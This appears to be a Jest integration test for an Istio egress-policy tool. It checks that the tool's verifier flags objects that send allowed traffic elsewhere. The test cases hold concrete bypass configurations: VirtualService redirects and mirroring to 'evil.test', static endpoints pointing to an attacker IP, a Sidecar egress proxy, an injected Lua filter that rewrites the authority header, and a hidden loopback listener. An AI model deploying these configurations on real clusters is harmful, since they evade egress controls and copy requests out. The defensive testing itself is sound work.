/** Who may write Istio's objects beside ours can send an allowed name elsewhere after the question: each way is shown, and found. */
import {afterAll, beforeAll, describe, expect} from '@jest/globals';
import {stringify} from 'yaml';
import {pinned, pinnedElsewhere, steered} from '../../mesh-config/steered.ts';
import type {Named} from '../../mesh-config/surroundings.ts';
import {NOTHING} from '../../mesh-config/testing/nothing.ts';
import {fromIntent} from './generated.ts';
import {meshTest} from './require.ts';
import {meshWorld, TIMEOUT_MS, type MeshWorld, type Tried} from './world.ts';

const KNOWN = '5.6.40.1';
const EVIL = '5.6.40.9';
const POLICY = {
  apiVersion: 'sallyport.dev/v1alpha1',
  kind: 'EgressPolicy',
  metadata: {name: 'web', namespace: 'app'},
  spec: {
    podSelector: {},
    rules: [
      {name: 'pages', to: {hosts: ['known.test'], schemes: ['http']}, http: {paths: ['/public/**']}},
      {name: 'names', to: {hosts: ['known.test'], schemes: ['tls']}},
    ],
  },
};
const object = (kind: string, name: string, spec: object, apiVersion = 'networking.istio.io/v1'): Named => ({
  ...{apiVersion, kind},
  metadata: {name, namespace: 'app'},
  ...{spec},
});
const PORTS = [
  {number: 80, name: 'http', protocol: 'HTTP'},
  {number: 443, name: 'tls', protocol: 'TLS'},
];
const entry = (host: string, more: object = {}): Named =>
  object('ServiceEntry', host.replace('.', '-'), {
    hosts: [host],
    location: 'MESH_EXTERNAL',
    resolution: 'DNS',
    ports: PORTS,
    ...more,
  });
const to = (host: string) => ({route: [{destination: {host}}]});
const virtual = (spec: object): Named => object('VirtualService', 'theirs', {hosts: ['known.test'], ...spec});
const BOTH = [entry('known.test'), entry('evil.test')];
const LUA = `function envoy_on_request(handle)
  handle:headers():replace(":authority", "evil.test")
  handle:clearRouteCache()
end`;
const filter = (applyTo: string, match: object, operation: string, value: object): Named =>
  object(
    'EnvoyFilter',
    'theirs',
    {
      priority: 20,
      configPatches: [{applyTo, match: {context: 'SIDECAR_OUTBOUND', ...match}, patch: {operation, value}}],
    },
    'networking.istio.io/v1alpha3',
  );
const type = (name: string) => ({'@type': `type.googleapis.com/envoy.extensions.filters.${name}`});
const MANAGER = 'envoy.filters.network.http_connection_manager';
const lua = filter(
  'HTTP_FILTER',
  {listener: {filterChain: {filter: {name: MANAGER, subFilter: {name: 'envoy.filters.http.router'}}}}},
  'INSERT_BEFORE',
  {
    name: 'envoy.filters.http.lua',
    typed_config: {...type('http.lua.v3.Lua'), default_source_code: {inline_string: LUA}},
  },
);
const ELSEWHERE = 'outbound|80||evil.test';
const route = filter('HTTP_ROUTE', {routeConfiguration: {vhost: {name: 'known.test:80'}}}, 'MERGE', {
  route: {cluster: ELSEWHERE},
});
const OWN_PORT = 9999;
/** On the pod's loopback, which is not redirected. */
const listener = filter('LISTENER', {}, 'ADD', {
  name: 'theirs',
  address: {socket_address: {address: '127.0.0.1', port_value: OWN_PORT}},
  filter_chains: [
    {
      filters: [
        {
          name: 'envoy.filters.network.tcp_proxy',
          typed_config: {...type('network.tcp_proxy.v3.TcpProxy'), stat_prefix: 'theirs', cluster: ELSEWHERE},
        },
      ],
    },
  ],
});

describe('what others write into the mesh', () => {
  const it = meshTest();
  const generated = fromIntent(
    stringify({
      apiVersion: 'sallyport.dev/v1alpha1',
      kind: 'MeshEgress',
      metadata: {name: 'default'},
      spec: {
        outboundTrafficPolicy: 'AllowAny',
        extauthz: {timeoutMs: TIMEOUT_MS},
        enforcement: [{at: 'Sidecar', namespace: 'app'}],
      },
    }),
  );
  let world: MeshWorld;
  beforeAll(async () => {
    world = await meshWorld({
      policies: [POLICY],
      sites: [
        {name: 'known.test', ip: KNOWN},
        {name: 'evil.test', ip: EVIL},
      ],
    });
  }, 120_000);
  afterAll(() => world.close(), 60_000);

  const findings = (objects: readonly Named[]): readonly string[] => {
    const of = (kind: string) => objects.filter((one) => one.kind === kind) as never;
    const around = {
      ...NOTHING,
      serviceEntries: of('ServiceEntry'),
      virtualServices: of('VirtualService'),
      sidecars: of('Sidecar'),
      envoyFilters: of('EnvoyFilter'),
    };
    return [
      ...steered(generated.mesh, around),
      ...pinned(generated.mesh, around).flatMap((one) => pinnedElsewhere(one.entry, one.host, [KNOWN])),
    ].map(({code}) => code);
  };
  const tried = async (objects: readonly Named[], ...args: readonly string[]): Promise<Tried> => {
    const mesh = await world.mesh([...objects.map((one) => stringify(one)), generated.yaml], generated.settings);
    try {
      return await world.tried(...args);
    } finally {
      await mesh.stop();
    }
  };
  const HTTP = 'http://known.test/public/a';
  const TLS = ['-k', 'https://known.test/t'];

  it('without any of it an allowed name is sent to where it is', async () => {
    expect(await tried(BOTH, HTTP)).toMatchObject({reached: ['known.test/public/a']});
    expect(await tried(BOTH, ...TLS)).toMatchObject({reached: ['known.test/t']});
    expect(findings(BOTH)).toEqual([]);
  }, 60_000);

  it.each<[string, readonly Named[], readonly string[], readonly string[]]>([
    ['a route', [...BOTH, virtual({http: [to('evil.test')]})], [HTTP], ['evil.test/public/a']],
    [
      'a route to what says that it is of the mesh',
      [
        entry('known.test'),
        entry('evil.test', {location: 'MESH_INTERNAL'}),
        virtual({http: [{match: [{port: 80}], ...to('evil.test')}]}),
      ],
      [HTTP],
      ['evil.test/public/a'],
    ],
    [
      'a route of TLS',
      [...BOTH, virtual({tls: [{match: [{sniHosts: ['known.test'], port: 443}], ...to('evil.test')}]})],
      TLS,
      ['evil.test/t'],
    ],
    [
      'a path that is written anew',
      [
        ...BOTH,
        virtual({http: [{match: [{uri: {exact: '/public/a'}}], ...to('known.test'), rewrite: {uri: '/private'}}]}),
      ],
      [HTTP],
      ['known.test/private'],
    ],
    [
      'endpoints of another place',
      [entry('known.test', {resolution: 'STATIC', endpoints: [{address: EVIL}]})],
      [HTTP],
      ['evil.test/public/a'],
    ],
    [
      'endpoints of another place, for TLS',
      [entry('known.test', {resolution: 'STATIC', endpoints: [{address: EVIL}]})],
      TLS,
      ['evil.test/t'],
    ],
    [
      'a proxy for what the mesh does not know',
      [
        entry('evil.test'),
        object('Sidecar', 'default', {
          egress: [{hosts: ['*/*']}],
          outboundTrafficPolicy: {mode: 'ALLOW_ANY', egressProxy: {host: 'evil.test', port: {number: 443}}},
        }),
      ],
      TLS,
      ['evil.test/t'],
    ],
    ['code in the sidecar', [...BOTH, lua], [HTTP], ['evil.test/public/a']],
    ['a route of Envoy’s own', [...BOTH, route], [HTTP], ['evil.test/public/a']],
    [
      'a listener that nobody asks at',
      [...BOTH, listener],
      ['--connect-to', `known.test:80:127.0.0.1:${OWN_PORT}`, HTTP],
      ['evil.test/public/a'],
    ],
  ])(
    '%s sends it elsewhere, which verify says',
    async (_what, objects, args, reached) => {
      expect(await tried(objects, ...args)).toMatchObject({reached});
      expect(findings(objects)).toEqual(['SentElsewhere']);
    },
    60_000,
  );

  it('a copy of a request is sent where nobody was asked about, which verify says', async () => {
    const objects = [...BOTH, virtual({http: [{...to('known.test'), mirror: {host: 'evil.test'}}]})];
    const mesh = await world.mesh([...objects.map((one) => stringify(one)), generated.yaml], generated.settings);
    const copied = (): boolean => world.arrived.some(({site, path}) => site === 'evil.test' && path === '/public/copy');
    await world.tried('http://known.test/public/copy');
    // It is sent by itself, and nobody waits for it.
    for (const deadline = Date.now() + 20_000; !copied() && Date.now() < deadline;)
      await new Promise((resolve) => setTimeout(resolve, 50));
    await mesh.stop();
    expect(copied()).toBe(true);
    expect(findings(objects)).toEqual(['SentElsewhere']);
  }, 60_000);
});
